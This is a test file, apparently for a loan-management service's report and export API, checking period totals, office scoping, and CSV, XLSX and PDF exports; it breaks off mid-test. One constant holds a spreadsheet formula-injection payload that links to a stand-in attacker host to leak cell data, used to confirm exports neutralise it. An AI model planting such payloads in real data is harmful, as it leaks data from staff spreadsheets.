// Reports and exports over HTTP, on loans migrated with back-dated disbursements and payments so the
// figures for a past period are fixed. Scenario (MONTHLY product: 12 installments due on the 10th,
// moved off Fri/Sat; 1 200 000 principal → 105 000 per installment):
//   A  JHENAIDAH-SADAR / SOC-JS-2   disbursed 2026-03-15, paid around both ends of June–August
//   B  MAGURA-SADAR                 600 000 disbursed 2026-06-20 (in the period), first installment paid
//   C  JHENAIDAH-KALIGANJ           disbursed 2026-02-01, never paid
//   D  SAVAR (Dhaka division)       disbursed 2026-04-01, one payment after the period
//   E  JHENAIDAH-SADAR / SOC-1      borrower named like a spreadsheet formula, never paid
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foldReportDayChanges } from '../../db/report-day-figures';
import { addDays, dhakaInstant } from '../../domain/dhaka-time';
import type { PaymentInput } from '../../domain/types';
import { createApiHarness, type ApiHarness } from '../../tests/api-harness';
import { collectionReport, reportOffice, resolvePeriod, type CollectionReportBody, type InstallmentsDueBody } from './reports';

type Figures = CollectionReportBody['totals'];

let api: ApiHarness;
const loans: Record<'A' | 'B' | 'C' | 'D' | 'E', string> = { A: '', B: '', C: '', D: '', E: '' };
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const SUMMER = 'from=2026-06-01&to=2026-08-31';

const paid = (trxId: string, amountPoisha: number, date: string, time: string): PaymentInput => ({
  loanId: '', trxId, amountPoisha, paidAt: dhakaInstant(date, time), provider: 'cash', recordedBy: 'ledger-import',
});

async function migrate(societyId: string, name: string, principalPoisha: number, disbursedOn: string, payments: PaymentInput[]): Promise<string> {
  const borrowerId = randomUUID();
  await api.sql`INSERT INTO borrowers (id, society_id, name, father_or_husband_name) VALUES (${borrowerId}, ${societyId}, ${name}, 'Father')`;
  const loan = await api.h.disburse({ borrowerId, productCode: 'MONTHLY', principalPoisha, disbursedAt: dhakaInstant(disbursedOn, '11:00'), priorPayments: payments });
  return loan.loanId;
}

beforeAll(async () => {
  api = await createApiHarness();
  await api.sql`INSERT INTO societies (id, office_id, name_bn, name_en, project_name) VALUES ('SOC-JS-2', 'JHENAIDAH-SADAR', 'দ্বিতীয় সমিতি', 'Second Society', 'আশ্রয়ণ-২')`;
  [loans.A, loans.B, loans.C, loans.D, loans.E] = await Promise.all([
    migrate('SOC-JS-2', 'Amena', 1_200_000, '2026-03-15', [
      paid('A1', 105_000, '2026-04-05', '12:00'),
      paid('A2', 155_000, '2026-05-31', '23:50'), // ten minutes before the period: May in full, 50 000 of June
      paid('A3', 30_000, '2026-06-01', '00:10'), // ten minutes into the period
      paid('A4', 130_000, '2026-07-20', '12:00'), // rest of June (late) and July
      paid('A5', 30_000, '2026-08-31', '23:30'), // part of August, half an hour before the period ends
      paid('A6', 100_000, '2026-09-01', '00:05'), // rest of August and part of September, after the period
    ]),
    migrate('SOC-MAGURA-SADAR', 'Bilkis', 600_000, '2026-06-20', [paid('B1', 52_500, '2026-07-12', '10:00')]),
    migrate('SOC-JHENAIDAH-KALIGANJ', 'Chompa', 1_200_000, '2026-02-01', []),
    migrate('SOC-SAVAR', 'Dilara', 1_200_000, '2026-04-01', [paid('D1', 300_000, '2026-09-15', '12:00')]),
    migrate('SOC-1', INJECTION, 1_200_000, '2026-07-05', []),
  ]);
  const paidTotal = { A: 550_000, B: 52_500, C: 0, D: 300_000, E: 0 };
  // Every one of them has since missed two installments; once blacklisted, nothing more changes.
  await Promise.all(Object.entries(loans).map(([k, id]) => api.h.waitFor(id, (v) => v.status === 'blacklisted' && v.paidPoisha === paidTotal[k as keyof typeof paidTotal], 90_000)));
}, 240_000);
afterAll(async () => {
  await api?.close();
});

async function get<T>(role: Parameters<ApiHarness['as']>[0], path: string): Promise<T> {
  const res = await api.request(await api.as(role), 'GET', path);
  expect(res.status, `${path}: ${res.status}`).toBe(200);
  return (await res.json()) as T;
}
const collection = (role: Parameters<ApiHarness['as']>[0], query: string) => get<CollectionReportBody>(role, `/api/reports/collection?${query}`);

const MONEY = ['loansDisbursed', 'amountDisbursedPoisha', 'duePoisha', 'collectedPoisha', 'collectedOfDuePoisha', 'overduePoisha'] as const;

function expectTotalsAreSumOfChildren(r: CollectionReportBody) {
  for (const field of MONEY) {
    expect(r.totals[field], field).toBe(r.children.reduce((t, c) => t + c.figures[field], 0));
  }
  for (const status of Object.keys(r.totals.loansByStatus)) {
    expect(r.totals.loansByStatus[status], status).toBe(r.children.reduce((t, c) => t + (c.figures.loansByStatus[status] ?? 0), 0));
  }
}
const child = (r: CollectionReportBody, id: string): Figures => {
  const c = r.children.find((x) => x.office.id === id);
  if (!c) throw new Error(`no child ${id} in ${r.children.map((x) => x.office.id).join(', ')}`);
  return c.figures;
};
const money = (f: Figures) => Object.fromEntries(MONEY.map((k) => [k, f[k]]));

describe('collection report', () => {
  it('works out a society for June–August exactly, counting payments by Dhaka day at both ends of the period', async () => {
    const r = await collection('upazila_officer', SUMMER);
    expect(r.office).toMatchObject({ id: 'JHENAIDAH-SADAR', level: 'upazila' });
    expect(r.period).toEqual({ from: '2026-06-01', to: '2026-08-31' });
    expect(r.asOf).toBe('2026-08-31T18:00:00.000Z');
    expect(r.children.map((c) => c.office.id).sort()).toEqual(['SOC-1', 'SOC-JS-2']);
    expect(r.children.every((c) => c.office.level === 'society')).toBe(true);
    expect(child(r, 'SOC-JS-2')).toEqual({
      loansDisbursed: 0,
      amountDisbursedPoisha: 0,
      duePoisha: 3 * 105_000, // 10 June, 12 July, 10 August
      collectedPoisha: 30_000 + 130_000 + 30_000, // A3, A4, A5; not A2 (31 May 23:50) nor A6 (1 September 00:05)
      collectedOfDuePoisha: 105_000 + 105_000 + 30_000, // June (part paid in May), July, 30 000 of August
      overduePoisha: 75_000, // the rest of August, still unpaid at the end of 31 August
      collectionRateBps: 7619, // 240 000 / 315 000 = 76.190…%
      loansByStatus: expect.objectContaining({ active: 1, blacklisted: 0 }), // its later troubles came after August
    });
    expect(money(child(r, 'SOC-1'))).toEqual({
      loansDisbursed: 1, amountDisbursedPoisha: 1_200_000, duePoisha: 105_000, collectedPoisha: 0, collectedOfDuePoisha: 0, overduePoisha: 105_000,
    });
    expectTotalsAreSumOfChildren(r);
  });

  it('moves payments in or out with the period boundaries', async () => {
    const may31 = await collection('upazila_officer', 'from=2026-05-31&to=2026-05-31');
    expect(child(may31, 'SOC-JS-2')).toMatchObject({ collectedPoisha: 155_000, duePoisha: 0, collectionRateBps: null });
    const september = await collection('upazila_officer', 'from=2026-09-01&to=2026-09-30');
    expect(child(september, 'SOC-JS-2')).toMatchObject({ collectedPoisha: 100_000, duePoisha: 105_000, collectedOfDuePoisha: 25_000, overduePoisha: 80_000, collectionRateBps: 2381 });
    const june1 = await collection('upazila_officer', 'from=2026-06-01&to=2026-06-01');
    expect(child(june1, 'SOC-JS-2').collectedPoisha).toBe(30_000);
  });

  it('adds up: totals equal the sum of the children at upazila, district, division and national level, and each child equals its own report', async () => {
    const bd = await collection('hq_admin', `officeId=BD&${SUMMER}`);
    const khulna = await collection('hq_admin', `officeId=KHULNA&${SUMMER}`);
    const dhaka = await collection('hq_admin', `officeId=DHAKA&${SUMMER}`);
    const jhenaidah = await collection('hq_admin', `officeId=JHENAIDAH&${SUMMER}`);
    const magura = await collection('hq_admin', `officeId=MAGURA&${SUMMER}`);
    const sadar = await collection('hq_admin', `officeId=JHENAIDAH-SADAR&${SUMMER}`);
    for (const r of [bd, khulna, dhaka, jhenaidah, magura, sadar]) expectTotalsAreSumOfChildren(r);

    expect(bd.children.map((c) => c.office.id).sort()).toEqual(['DHAKA', 'KHULNA']);
    expect(child(bd, 'KHULNA')).toEqual(khulna.totals);
    expect(child(bd, 'DHAKA')).toEqual(dhaka.totals);
    expect(child(khulna, 'JHENAIDAH')).toEqual(jhenaidah.totals);
    expect(child(khulna, 'MAGURA')).toEqual(magura.totals);
    expect(child(jhenaidah, 'JHENAIDAH-SADAR')).toEqual(sadar.totals);

    expect(money(magura.totals)).toEqual({
      loansDisbursed: 1, amountDisbursedPoisha: 600_000, duePoisha: 105_000, collectedPoisha: 52_500, collectedOfDuePoisha: 52_500, overduePoisha: 52_500,
    });
    expect(magura.totals.collectionRateBps).toBe(5000);
    expect(money(child(jhenaidah, 'JHENAIDAH-KALIGANJ'))).toEqual({
      loansDisbursed: 0, amountDisbursedPoisha: 0, duePoisha: 315_000, collectedPoisha: 0, collectedOfDuePoisha: 0, overduePoisha: 6 * 105_000,
    });
    expect(child(jhenaidah, 'JHENAIDAH-KALIGANJ').collectionRateBps).toBe(0);
    expect(money(dhaka.totals)).toEqual({
      loansDisbursed: 0, amountDisbursedPoisha: 0, duePoisha: 315_000, collectedPoisha: 0, collectedOfDuePoisha: 0, overduePoisha: 4 * 105_000,
    });
    expect(money(bd.totals)).toEqual({
      loansDisbursed: 2,
      amountDisbursedPoisha: 1_800_000,
      duePoisha: 315_000 + 105_000 + 315_000 + 315_000 + 105_000,
      collectedPoisha: 190_000 + 52_500,
      collectedOfDuePoisha: 240_000 + 52_500,
      overduePoisha: 75_000 + 52_500 + 630_000 + 420_000 + 105_000,
    });
    // The rate of the totals is worked out from the totals, not averaged from the children.
    expect(bd.totals.collectionRateBps).toBe(2532); // 292 500 / 1 155 000 = 25.324…%
  });

  it('keeps totals equal to the sum of the children for the current month too, statuses included', async () => {
    const r = await collection('hq_admin', '');
    expect(r.period.from.endsWith('-01')).toBe(true);
    expectTotalsAreSumOfChildren(r);
    expect(r.totals.loansByStatus.blacklisted).toBeGreaterThanOrEqual(5);
  });

  it('reports open and ended periods from the day figures exactly as the audit trail replayed says, before and after folding', async () => {
    const now = Date.now();
    const today = new Date(now).toISOString().slice(0, 10);
    const periods = [
      resolvePeriod({}, now), resolvePeriod({ from: '2026-01-01', to: '2027-12-31' }, now), resolvePeriod({ from: '2026-06-15', to: '2030-01-01' }, now),
      // Ended: payments and status changes came after each of them.
      resolvePeriod({ from: '2026-06-01', to: '2026-08-31' }, now), resolvePeriod({ from: '2026-05-31', to: '2026-05-31' }, now),
      resolvePeriod({ from: '2026-09-01', to: '2026-09-30' }, now), resolvePeriod({ from: '2025-01-01', to: '2026-07-10' }, now),
      resolvePeriod({ from: '2026-01-01', to: addDays(today, -1) }, now),
    ];
    const cases = [['hq_admin', 'BD'], ['hq_admin', 'JHENAIDAH'], ['district_officer', 'JHENAIDAH'], ['upazila_officer', 'JHENAIDAH-SADAR'], ['society_rep', undefined]] as const;
    const compare = async () => {
      let compared = 0;
      for (const [role, officeId] of cases) {
        const actor = api.accounts[role];
        const office = await reportOffice(api.sql, actor, officeId);
        for (const period of periods) {
          const figures = await collectionReport(api.sql, actor, office, period, now);
          const replayed = await collectionReport(api.sql, actor, office, period, now, 'history');
          expect(figures, `${role} ${office.id} ${period.from}..${period.to}`).toEqual(replayed);
          compared += figures.children.length;
        }
      }
      return compared;
    };
    const [{ pending }] = await api.sql<[{ pending: number }]>`SELECT count(*)::int AS pending FROM report_day_changes`;
    expect(pending).toBeGreaterThan(0); // what the loans wrote is still in the changes
    expect(await compare()).toBeGreaterThan(30);
    expect(await foldReportDayChanges(api.sql)).toBeGreaterThanOrEqual(pending);
    expect((await api.sql`SELECT 1 FROM report_day_changes`).length).toBe(0);
    expect(await compare()).toBeGreaterThan(30);
    // Not vacuous: the figures hold money, overdue amounts, blacklisted loans, and money paid after an ended period.
    const national = await collectionReport(api.sql, api.accounts.hq_admin, await reportOffice(api.sql, api.accounts.hq_admin, 'BD'), periods[1]!, now);
    expect(national.totals.collectedPoisha).toBeGreaterThan(0);
    expect(national.totals.overduePoisha).toBeGreaterThan(0);
    expect(national.totals.loansByStatus.blacklisted).toBe(5);
    const summer = await collectionReport(api.sql, api.accounts.hq_admin, await reportOffice(api.sql, api.accounts.hq_admin, 'BD'), periods[3]!, now);
    expect(summer.totals.loansByStatus.blacklisted).toBe(0);
    expect(summer.totals.overduePoisha).toBeGreaterThan(0);
  });

  it('agrees with the installments-due list on what fell due', async () => {
    for (const officeId of ['BD', 'JHENAIDAH', 'SAVAR']) {
      const r = await collection('hq_admin', `officeId=${officeId}&${SUMMER}`);
      const due = await get<InstallmentsDueBody>('hq_admin', `/api/reports/installments-due?officeId=${officeId}&${SUMMER}`);
      expect(due.totals.amountPoisha).toBe(r.totals.duePoisha);
    }
    const sadar = await get<InstallmentsDueBody>('upazila_officer', `/api/reports/installments-due?${SUMMER}`);
    expect(sadar.items.map((i) => [i.societyId, i.borrowerName, i.dueDate, i.amountPoisha, i.paidPoisha, i.status])).toEqual([
      ['SOC-1', INJECTION, '2026-08-10', 105_000, 0, 'overdue'],
      ['SOC-JS-2', 'Amena', '2026-06-10', 105_000, 105_000, 'paid'],
      ['SOC-JS-2', 'Amena', '2026-07-12', 105_000, 105_000, 'paid'],
      ['SOC-JS-2', 'Amena', '2026-08-10', 105_000, 105_000, 'paid'],
    ]);
    expect(sadar.totals).toEqual({ installments: 4, amountPoisha: 420_000, paidPoisha: 315_000 });
  });
});

describe('report scope', () => {
  it('answers 404 for an office outside the actor’s part of the country', async () => {
    const uco = await api.as('upazila_officer');
    for (const path of [
      `/api/reports/collection?officeId=JHENAIDAH-KALIGANJ&${SUMMER}`,
      `/api/reports/collection?officeId=JHENAIDAH&${SUMMER}`,
      `/api/reports/installments-due?officeId=JHENAIDAH-KALIGANJ`,
      `/api/exports/collection.csv?officeId=JHENAIDAH-KALIGANJ`,
      `/api/exports/defaulters.xlsx?officeId=MAGURA`,
      `/api/reports/collection?officeId=NO-SUCH-OFFICE`,
    ]) {
      const res = await api.request(uco, 'GET', path);
      expect(res.status, path).toBe(404);
    }
    const dco = await api.request(await api.as('district_officer'), 'GET', `/api/reports/collection?officeId=MAGURA&${SUMMER}`);
    expect(dco.status).toBe(404);
  });

  it('shows a society representative only their own society', async () => {
    const rep = await collection('society_rep', SUMMER);
    expect(rep.office.id).toBe('JHENAIDAH-SADAR');
    expect(rep.children.map((c) => c.office.id)).toEqual(['SOC-1']);
    const officer = await collection('upazila_officer', SUMMER);
    expect(rep.totals).toEqual(child(officer, 'SOC-1'));
    const due = await get<InstallmentsDueBody>('society_rep', `/api/reports/installments-due?${SUMMER}`);
    expect(new Set(due.items.map((i) => i.societyId))).toEqual(new Set(['SOC-1']));
    const res = await api.request(await api.as('society_rep'), 'GET', `/api/reports/collection?officeId=JHENAIDAH&${SUMMER}`);
    expect(res.status).toBe(404);
  });

  it('asks for a login and refuses dates that are not calendar days or run backwards', async () => {
    expect((await api.request(null, 'GET', '/api/reports/collection')).status).toBe(401);
    expect((await api.request(null, 'GET', '/api/exports/collection.csv')).status).toBe(401);
    const hq = await api.as('hq_admin');
    for (const [query, field] of [['from=2026-02-30', 'from'], ['from=2026-09-01&to=2026-08-31', 'from'], ['to=31-08-2026', 'to']] as const) {
      const res = await api.request(hq, 'GET', `/api/reports/collection?${query}`);
      expect(res.status, query).toBe(400);
      expect(((await res.json()) as { error: { field: string } }).error.field).toBe(field);
    }
    expect((await api.request(hq, 'GET', '/api/exports/collection.ods')).status).toBe(400);
  });
});

const BOM = [0xef, 0xbb, 0xbf];
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** "1234.50" → 123450, checking the text has exactly two decimals. */
function poishaOf(text: string): number {
  expect(text).toMatch(/^\d+\.\d{2}$/);
  return Number(text.replace('.', ''));
}

async function download(role: Parameters<ApiHarness['as']>[0], path: string) {
  const res = await api.request(await api.as(role), 'GET', path);
  expect(res.status, path).toBe(200);
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

function readCsv(bytes: Buffer): { header: string[]; rows: string[][] } {
  expect([...bytes.subarray(0, 3)]).toEqual(BOM);
  const [header, ...rows] = parse(bytes.toString('utf8'), { bom: true }) as string[][];
  return { header: header!, rows };
}

async function readXlsx(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as Parameters<ExcelJS.Xlsx['load']>[0]);
  const sheet = wb.worksheets[0]!;
  const header = (sheet.getRow(2).values as unknown[]).slice(1) as string[];
  const rows: ExcelJS.Row[] = [];
  for (let r = 3; r <= sheet.rowCount; r++) rows.push(sheet.getRow(r));
  return { sheet, title: sheet.getCell('A1').value as string, header, rows, col: (name: string) => header.indexOf(name) + 1 };
}

describe('exports', () => {
  it('prints the defaulter list as an A4 PDF with Noto Sans Bengali embedded (shaped by Chromium), the office named, in its scope only', async () => {
    const { res, bytes } = await download('district_officer', '/api/exports/defaulters.pdf?officeId=JHENAIDAH');
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="defaulters_JHENAIDAH_\d{4}-\d{2}-\d{2}\.pdf"$/);
    const text = bytes.toString('latin1');
    expect(text.startsWith('%PDF-')).toBe(true);
    // The page is set in the font shipped with the app (subsets of it), regular and bold; the only
    // other font is the system one Chromium draws the page-number footer with (digits only).
    const fonts = [...new Set([...text.matchAll(/\/BaseFont\s*\/(?:[A-Z]{6}\+)?([A-Za-z0-9-]+)/g)].map((m) => m[1]!))];
    expect(fonts).toEqual(expect.arrayContaining(['NotoSansBengali-Regular', 'NotoSansBengali-Bold']));
    expect(fonts.filter((f) => !f.startsWith('NotoSansBengali')).length, fonts.join(', ')).toBeLessThanOrEqual(1);
    const uco = await api.request(await api.as('upazila_officer'), 'GET', '/api/exports/defaulters.pdf?officeId=JHENAIDAH-KALIGANJ');
    expect(uco.status).toBe(404);
  });


  const FIELDS_BN: [string, keyof Figures][] = [
    ['বিতরণকৃত ঋণ (সংখ্যা)', 'loansDisbursed'], ['বিতরণকৃত অর্থ (টাকা)', 'amountDisbursedPoisha'], ['মেয়াদে প্রদেয় কিস্তি (টাকা)', 'duePoisha'],
    ['মেয়াদে আদায় (টাকা)', 'collectedPoisha'], ['প্রদেয় কিস্তির আদায় (টাকা)', 'collectedOfDuePoisha'], ['বকেয়া (টাকা)', 'overduePoisha'],
  ];
  const FIELDS_EN: [string, keyof Figures][] = [
    ['Loans disbursed', 'loansDisbursed'], ['Amount disbursed (Tk)', 'amountDisbursedPoisha'], ['Due in period (Tk)', 'duePoisha'],
    ['Collected in period (Tk)', 'collectedPoisha'], ['Collected of due (Tk)', 'collectedOfDuePoisha'], ['Overdue (Tk)', 'overduePoisha'],
  ];

  it('writes the collection report as CSV: BOM, Bengali headers, one row per child and a totals row, the JSON numbers in taka', async () => {
    const json = await collection('divisional_officer', SUMMER);
    const { res, bytes } = await download('divisional_officer', `/api/exports/collection.csv?${SUMMER}`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="collection_KHULNA_2026-06-01_2026-08-31.csv"');
    const { header, rows } = readCsv(bytes);
    expect(header.slice(0, 2)).toEqual(['অফিস/সমিতির আইডি', 'নাম']);
    expect(header).toContain('ঋণ: কালো তালিকাভুক্ত');
    expect(rows.map((r) => r[0])).toEqual([...json.children.map((c) => c.office.id), 'মোট']);
    const figuresOf = (id: string) => (id === 'মোট' ? json.totals : json.children.find((c) => c.office.id === id)!.figures);
    for (const row of rows) {
      const f = figuresOf(row[0]!);
      for (const [name, field] of FIELDS_BN) {
        const cell = row[header.indexOf(name)]!;
        expect(field === 'loansDisbursed' ? Number(cell) : poishaOf(cell), `${row[0]} ${field}`).toBe(f[field]);
      }
      const rate = row[header.indexOf('আদায়ের হার (%)')]!;
      expect(rate === '' ? null : poishaOf(rate)).toBe(f.collectionRateBps);
      expect(Number(row[header.indexOf('ঋণ: চলমান')]!)).toBe(f.loansByStatus.active);
    }
  });

  it('writes the collection report as XLSX: a title naming the office and the period, English headers on request, money formatted', async () => {
    const json = await collection('hq_admin', `officeId=KHULNA&${SUMMER}`);
    const { res, bytes } = await download('hq_admin', `/api/exports/collection.xlsx?officeId=KHULNA&${SUMMER}&lang=en`);
    expect(res.headers.get('content-type')).toBe(XLSX_TYPE);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="collection_KHULNA_2026-06-01_2026-08-31.xlsx"');
    const x = await readXlsx(bytes);
    expect(x.title).toBe('Collection report — Khulna Division (KHULNA) — 2026-06-01 to 2026-08-31');
    expect(x.header.slice(0, 2)).toEqual(['Office/society ID', 'Name']);
    expect(x.rows.map((r) => r.getCell(1).value)).toEqual([...json.children.map((c) => c.office.id), 'Total']);
    x.rows.forEach((row, i) => {
      const f = i < json.children.length ? json.children[i]!.figures : json.totals;
      for (const [name, field] of FIELDS_EN) {
        const cell = row.getCell(x.col(name));
        expect(typeof cell.value).toBe('number');
        expect(field === 'loansDisbursed' ? cell.value : Math.round((cell.value as number) * 100), `${i} ${field}`).toBe(f[field]);
        if (field !== 'loansDisbursed') expect(cell.numFmt).toBe('#,##0.00');
      }
      const rate = row.getCell(x.col('Collection rate (%)'));
      expect(rate.value === null ? null : Math.round((rate.value as number) * 10_000)).toBe(f.collectionRateBps);
    });
  });

  it('neutralises a borrower named like a formula in the installments-due CSV and XLSX, and carries the JSON sums', async () => {
    const json = await get<InstallmentsDueBody>('upazila_officer', `/api/reports/installments-due?${SUMMER}`);
    const csv = await download('upazila_officer', `/api/exports/installments-due.csv?${SUMMER}&lang=en`);
    expect(csv.res.headers.get('content-disposition')).toBe('attachment; filename="installments-due_JHENAIDAH-SADAR_2026-06-01_2026-08-31.csv"');
    const { header, rows } = readCsv(csv.bytes);
    expect(header).toEqual(['Loan code', 'Borrower', 'Society ID', 'Society', 'Installment no.', 'Due date', 'Amount (Tk)', 'Paid (Tk)', 'Status']);
    expect(rows).toHaveLength(json.items.length + 1);
    const evil = rows.find((r) => r[1]!.includes('HYPERLINK'))!;
    expect(evil[1]).toBe(`'${INJECTION}`);
    expect(evil.slice(5)).toEqual(['2026-08-10', '1050.00', '0.00', 'Overdue']);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.at(-1)!.slice(0, 1)).toEqual(['Total']);
    expect(poishaOf(rows.at(-1)![6]!)).toBe(json.totals.amountPoisha);
    expect(poishaOf(rows.at(-1)![7]!)).toBe(json.totals.paidPoisha);

    const xlsx = await download('upazila_officer', `/api/exports/installments-due.xlsx?${SUMMER}`);
    const x = await readXlsx(xlsx.bytes);
    expect(x.title).toContain('JHENAIDAH-SADAR');
    expect(x.header[1]).toBe('ঋণগ্রহীতার নাম');
    const names = x.rows.map((r) => r.getCell(2).value);
    expect(names).toContain(`'${INJECTION}`);
    expect(x.rows.every((r) => r.getCell(2).formula === undefined)).toBe(true);
  });

  it('writes defaulters with the same unpaid amounts as /api/defaulters at the same moment', async () => {
    const asOf = new Date().toISOString();
    const json = await get<{ items: { code: string; borrowerName: string; unpaidDuePoisha: number; outstandingPoisha: number }[]; totalUnpaidDuePoisha: number }>(
      'district_officer', `/api/defaulters?asOf=${encodeURIComponent(asOf)}`);
    expect(json.items.length).toBeGreaterThanOrEqual(3); // A, C and E are in Jhenaidah
    const { res, bytes } = await download('district_officer', `/api/exports/defaulters.csv?asOf=${encodeURIComponent(asOf)}&lang=en`);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="defaulters_JHENAIDAH_\d{4}-\d{2}-\d{2}\.csv"$/);
    const { header, rows } = readCsv(bytes);
    const at = (name: string) => header.indexOf(name);
    for (const item of json.items) {
      const row = rows.find((r) => r[at('Loan code')] === item.code)!;
      expect(poishaOf(row[at('Unpaid due (Tk)')]!)).toBe(item.unpaidDuePoisha);
      expect(poishaOf(row[at('Outstanding (Tk)')]!)).toBe(item.outstandingPoisha);
      expect(row[at('Borrower')]).toBe(item.borrowerName.startsWith('=') ? `'${item.borrowerName}` : item.borrowerName);
    }
    expect(rows.at(-1)![0]).toBe('Total');
    expect(poishaOf(rows.at(-1)![at('Unpaid due (Tk)')]!)).toBe(json.totalUnpaidDuePoisha);
  });

  it('lists the same defaulters with the same amounts now as as of this moment: the live figures agree with the audit trail', async () => {
    type List = { items: { code: string; status: string; unpaidDuePoisha: number; outstandingPoisha: number }[]; totalUnpaidDuePoisha: number };
    const pick = (l: List) => l.items.map(({ code, status, unpaidDuePoisha, outstandingPoisha }) => ({ code, status, unpaidDuePoisha, outstandingPoisha }));
    const now = await get<List>('district_officer', '/api/defaulters');
    const then = await get<List>('district_officer', `/api/defaulters?asOf=${encodeURIComponent(new Date().toISOString())}`);
    expect(now.items.length).toBeGreaterThanOrEqual(3);
    expect(pick(now)).toEqual(pick(then));
    expect(now.totalUnpaidDuePoisha).toBe(then.totalUnpaidDuePoisha);
  });

  it('pages the defaulter list biggest unpaid first, with the whole list’s count and total on every page, now and as of a moment', async () => {
    type Page = { items: { code: string; unpaidDuePoisha: number }[]; nextCursor: string | null; total: number; totalUnpaidDuePoisha: number };
    for (const asOf of ['', `&asOf=${encodeURIComponent(new Date().toISOString())}`]) {
      const whole = await get<Page>('hq_admin', `/api/defaulters?limit=500${asOf}`);
      expect(whole.items.length).toBeGreaterThanOrEqual(5);
      expect(whole.nextCursor).toBeNull();
      expect(whole.total).toBe(whole.items.length);
      expect(whole.totalUnpaidDuePoisha).toBe(whole.items.reduce((t, i) => t + i.unpaidDuePoisha, 0));
      const order = [...whole.items].sort((a, b) => b.unpaidDuePoisha - a.unpaidDuePoisha || (a.code < b.code ? -1 : 1));
      expect(whole.items.map((i) => i.code)).toEqual(order.map((i) => i.code));
      const walked: Page['items'] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const p: Page = await get<Page>('hq_admin', `/api/defaulters?limit=2${asOf}${cursor ? `&cursor=${cursor}` : ''}`);
        expect(p.items.length).toBeLessThanOrEqual(2);
        expect({ total: p.total, sum: p.totalUnpaidDuePoisha }).toEqual({ total: whole.total, sum: whole.totalUnpaidDuePoisha });
        walked.push(...p.items);
        cursor = p.nextCursor;
        pages += 1;
      } while (cursor);
      expect(pages).toBe(Math.ceil(whole.total / 2));
      expect(walked).toEqual(whole.items);
    }
    const bad = await api.request(await api.as('hq_admin'), 'GET', '/api/defaulters?cursor=not-a-cursor');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { field: string } }).error.field).toBe('cursor');
  });

  it('keeps each loan’s own unpaid figure equal to its installments while it holds, and never shows one past its time', async () => {
    const wrong = await api.sql`
      SELECT l.id, l.arrears_poisha, x.unpaid FROM loans l
      CROSS JOIN LATERAL (SELECT coalesce(sum(i.amount_poisha - i.paid_poisha) FILTER (WHERE i.due_at <= now()), 0)::bigint AS unpaid FROM installments i WHERE i.loan_id = l.id) x
      WHERE l.arrears_at <= now() AND l.arrears_until > now() AND l.arrears_poisha <> x.unpaid`;
    expect(wrong).toEqual([]);
    const [{ held }] = await api.sql<[{ held: number }]>`SELECT count(*)::int AS held FROM loans WHERE arrears_at <= now() AND arrears_until > now()`;
    expect(held).toBeGreaterThanOrEqual(5);
    // A figure whose time has passed (its next deadline came) is not used, however wrong it is.
    type Page = { items: { code: string; unpaidDuePoisha: number }[]; totalUnpaidDuePoisha: number };
    const before = await get<Page>('hq_admin', '/api/defaulters?limit=500');
    const victim = before.items[0]!.code;
    await api.sql`UPDATE loans SET arrears_poisha = 1, arrears_until = now() - interval '1 second' WHERE code = ${victim}`;
    try {
      expect(await get<Page>('hq_admin', '/api/defaulters?limit=500')).toEqual({ ...before, asOf: expect.any(String) });
    } finally {
      await api.sql`SELECT loan_arrears_refresh(ARRAY(SELECT id FROM loans WHERE code = ${victim}))`;
    }
  });

  it('writes the blacklist as XLSX for the office asked for, neutralising the formula-like name', async () => {
    const json = await get<{ items: { loanId: string; officeId: string }[] }>('district_officer', '/api/blacklist');
    const { bytes } = await download('district_officer', '/api/exports/blacklist.xlsx?officeId=JHENAIDAH-SADAR&lang=en');
    const x = await readXlsx(bytes);
    expect(x.title).toMatch(/^Blacklist — Jhenaidah Sadar \(JHENAIDAH-SADAR\) — as of \d{4}-\d{2}-\d{2}$/);
    expect(x.rows).toHaveLength(json.items.filter((i) => i.officeId === 'JHENAIDAH-SADAR').length);
    expect(x.rows.map((r) => r.getCell(x.col('Borrower')).value)).toEqual(expect.arrayContaining([`'${INJECTION}`, 'Amena']));
    expect(new Set(x.rows.map((r) => r.getCell(x.col('Office ID')).value))).toEqual(new Set(['JHENAIDAH-SADAR']));
  });
});

describe('written-off loans', () => {
  it('stop counting as overdue once written off, while what fell due still counts', async () => {
    const f = await migrate('SOC-JHENAIDAH-KALIGANJ', 'Fatema', 1_200_000, '2026-09-05', []);
    await api.h.waitFor(f, (v) => v.status === 'blacklisted', 90_000);
    const unpaid = await api.sql<[{ total: number }]>`SELECT coalesce(sum(amount_poisha), 0)::bigint AS total FROM installments WHERE loan_id = ${f} AND due_at < now()`;
    const before = await collection('hq_admin', 'officeId=JHENAIDAH-KALIGANJ');
    await api.h.closeLoan(f, { kind: 'write_off', reason: 'borrower died; board resolution 3/2026', by: 'test' });
    await api.h.waitFor(f, (v) => v.status === 'written_off');
    const after = await collection('hq_admin', 'officeId=JHENAIDAH-KALIGANJ');
    expect(after.period).toEqual(before.period);
    expect(before.totals.overduePoisha - after.totals.overduePoisha).toBe(unpaid[0].total);
    expect(after.totals.duePoisha).toBe(before.totals.duePoisha);
    expect(after.totals.loansByStatus.written_off).toBe(before.totals.loansByStatus.written_off! + 1);
    expect(after.totals.loansByStatus.blacklisted).toBe(before.totals.loansByStatus.blacklisted! - 1);
  });
});

describe('the OpenAPI document', () => {
  it('describes the report and export routes', async () => {
    const doc = (await (await api.request(null, 'GET', '/api/openapi.json')).json()) as { paths: Record<string, Record<string, unknown>>; components: { schemas: Record<string, unknown> } };
